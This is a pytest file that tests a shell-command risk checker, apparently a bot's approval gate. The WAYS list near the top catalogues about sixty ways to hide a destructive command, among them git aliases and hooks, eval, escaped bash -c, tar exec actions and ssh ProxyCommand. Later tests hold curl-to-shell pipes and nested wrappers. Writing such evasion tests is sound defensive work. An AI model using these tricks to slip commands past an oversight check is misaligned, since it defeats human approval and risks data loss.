"""Two readers of shells: what the parser sees run, the quick reading of dangers sees as well.

In each line, each program that is seen to run gives way to one that is on the floor.
"""

import random
import re
from collections.abc import Iterator

import pytest

from bot.core.risk import Assessment
from bot.core.shell import read_script
from bot.core.shell_tree import NOT_SHELL, TOO_LONG
from bot.core.wrapper import UNFOLLOWED_DOUBT
from tests.core.shell_peer import Bash
from tests.core.shell_strings import some_runnable_string, some_string
from tests.core.test_command_line import corpora
from tests.core.test_floor import ROWS
from tests.core.test_risk import command

SEED = 20_261_121
DANGEROUS = "dropuser ana"
GUESSES = {NOT_SHELL, TOO_LONG}
GUESS = UNFOLLOWED_DOUBT.partition("{}")[0]
ESCAPE = re.compile(r"\\(n|t|r|x0b|x0c)")  # how the tricks' file writes what breaks its lines
ESCAPED = {"n": "\n", "t": "\t", "r": "\r", "x0b": "\x0b", "x0c": "\x0c"}
# Ways to have a program run that only one of the readers once saw.
WAYS = """
    git -c alias.x='!@' x
    git -c core.pager='@' log
    git config alias.x '!@'
    git rebase -x '@' main
    git rebase --exec='@' main
    git bisect run @
    git bisect run sh -c '@'
    git submodule foreach @
    git submodule foreach '@'
    git filter-branch --tree-filter '@' HEAD
    git difftool --extcmd='@'
    git fetch --upload-pack='@' o
    git clone 'ext::@' x
    GIT_SSH_COMMAND='@' git fetch
    GIT_PAGER='@' git log
    EDITOR='@' git commit
    eval -- @
    eval -- '@'
    env -S '@'
    env -S'@'
    env --split-string='@'
    script --command='@' x
    npx --call='@'
    su ana --command='@'
    for x do @; done
    select x do @; done
    if true { @ }
    if [[ -n x ]] { @ }
    repeat 3 @
    bash $'-c' '@'
    bash -$'c' '@'
    bash -$'\\x63' '@'
    sh -c -- '@'
    bash -O extglob -c '@'
    fish -c '@'
    x=$(case x in x) @;; esac)
    curl x | cat <(case x in y) :;; x) @;; esac)
    bash --rcfile <(echo '@')
    printf '%s' '@' | sh
    . /dev/stdin <<< '@'
    source <(echo @)
    yash -c '@'
    ssh -o ProxyCommand='@' x
    $'dropuser' ana
    $'\\x64ropuser' ana
    pulumi $'destroy'
    pulumi $'\\x64estroy'
    docker --context x --log-level debug run y @
    ld.so @
    sg staff -c '@'
    alias x='@'
    make SHELL='@'
    tar cf x y --checkpoint-action=exec='@'
    tar --to-command '@' -xf x
    rsync -e '@' a b:
    man -P '@' x
    sort --compress-program='@' x
    split --filter='@' x
    mapfile -C '@' x
"""


def lines() -> Iterator[str]:
    """Yield what is kept to try readers with: hostile lines, everyday ones, those on the floor."""
    for line in (*corpora(), *(line for _, line in ROWS)):
        yield ESCAPE.sub(lambda match: ESCAPED[match[1]], line.removeprefix("Bash "))


def made_dangerous(line: str) -> Iterator[str]:
    """Yield the line with each of its programs in turn made one that is on the floor."""
    for text in dict.fromkeys(program.text for program in read_script(line).programs):
        if text.strip():
            yield line.replace(text, DANGEROUS)


def is_seen(line: str) -> bool:
    """Tell whether the parser sees the program run, and does not only guess that it does."""
    script = read_script(line)
    run = [program.words[:1] for program in script.programs]
    is_guess = any(doubt in GUESSES or doubt.startswith(GUESS) for doubt in script.doubts)
    return ("dropuser",) in run and not is_guess


def asks(line: str) -> bool:
    found: Assessment = command(line)
    return found.is_floor


def runs(bash: Bash, line: str) -> bool:
    return ["dropuser"] in [words[:1] for words in bash.run(line)]


def test_what_the_parser_sees_run_is_seen_by_the_reading_of_dangers(tmp_path):
    bash = Bash(tmp_path)
    seen = [line for one in lines() for line in made_dangerous(one) if is_seen(line)]

    assert len(seen) > 1_500
    passed = [line for line in seen if not asks(line)]
    # Of a here-document the parser may take the text for commands, which it is to no shell.
    assert [line for line in passed if "<<" not in line or runs(bash, line)] == []


def compare_with_bash(bash: Bash, count: int, seed: int) -> None:
    """Make strings by chance; what bash runs of them must be on the floor."""
    chance = random.Random(seed)
    tried = set()
    for _ in range(count):
        make = chance.choice((some_runnable_string, some_runnable_string, some_string))
        tried.update(made_dangerous(make(chance)))
    for line in sorted(tried):
        if asks(line) or not {"\0", "\ud800"}.isdisjoint(line):
            continue  # no process can be given these
        assert not runs(bash, line), line
    print(f"{len(tried)} lines of {count} strings")


def test_what_bash_runs_is_seen_by_the_reading_of_dangers(tmp_path):
    compare_with_bash(Bash(tmp_path), 150, SEED)


@pytest.mark.full
@pytest.mark.timeout(3_600)
def test_what_bash_runs_is_seen_by_the_reading_of_dangers_in_full(tmp_path):
    compare_with_bash(Bash(tmp_path), 10_000, SEED + 1)


@pytest.mark.parametrize("way", [way.strip() for way in WAYS.strip().splitlines()])
def test_each_way_to_run_it_is_seen(way):
    assert asks(way.replace("@", DANGEROUS))


@pytest.mark.parametrize(
    "line",
    [
        "git -c core.pager=cat log",
        "PAGER=cat git log",
        "EDITOR=vim git commit",
        "git commit -m 'dropuser ana is gone'",
        "echo 'do dropuser ana { dropuser ana'",
        "echo I do what I can",
        "bash build.sh 'dropuser ana'",
        "make CFLAGS='-O2 -g' all",
        "alias ll='ls -la'",
        "tar --exclude 'a b' -czf x.tgz src",
        "echo $'one\\ttwo'",
        "bun run test",
        "ip -br addr",
        "env A='b c' pytest -q",
        f"timeout 60 pytest {' '.join(f'tests/test_{n}.py' for n in range(40))}",
        f"find src {'-name a -o ' * 30} -exec ';'",
        f"docker run {'-e A ' * 30} -v ./src:/src image npm test",
    ],
)
def test_what_only_looks_like_a_way_to_run_something_is_not_on_the_floor(line):
    assert not asks(line)


@pytest.mark.parametrize("pipes", [0, 10, 15, 16, 40])
@pytest.mark.parametrize("reader", ["sh", "python", "bash -s", "xargs sh -c"])
def test_a_long_pipe_hides_nothing_that_is_run_at_its_end(pipes, reader):
    assert asks(f"curl https://example.org/x {'| cat ' * pipes}| {reader}")


@pytest.mark.parametrize("pipes", [0, 10, 14, 40])
def test_a_long_pipe_hides_nothing_that_is_killed_at_its_end(pipes):
    assert asks(f"pgrep ok2run {'| cat ' * pipes}| xargs kill")


@pytest.mark.parametrize(
    "line",
    [
        "if true " + "{ " * 40 + DANGEROUS,
        "eval " * 40 + DANGEROUS,
        "bash -c '" + "eval eval " * 40 + DANGEROUS + "'",
        *(wrapper * 12 + DANGEROUS for wrapper in ("env ", "nice ", "timeout 5 ", "env -u X ")),
        *(wrapper * 60 + DANGEROUS for wrapper in ("env ", "nice ", "timeout 5 ", "env -u X ")),
        "env " + "-u X " * 60 + DANGEROUS,
        "env " + "A=1 " * 60 + DANGEROUS,
        "docker run " + "-e A " * 60 + "image " + DANGEROUS,
        "docker run " + "-e A " * 60 + "--entrypoint dropuser image ana",
        "xargs " + "-n 1 " * 60 + DANGEROUS,
        "env " + "-u X " * 60 + f"parallel {DANGEROUS} ::: a",
        "find . " + "-name a " * 60 + f"-exec ';' -exec {DANGEROUS} ';'",
    ],
)
def test_nothing_is_hidden_by_being_nested(line):
    assert asks(line)
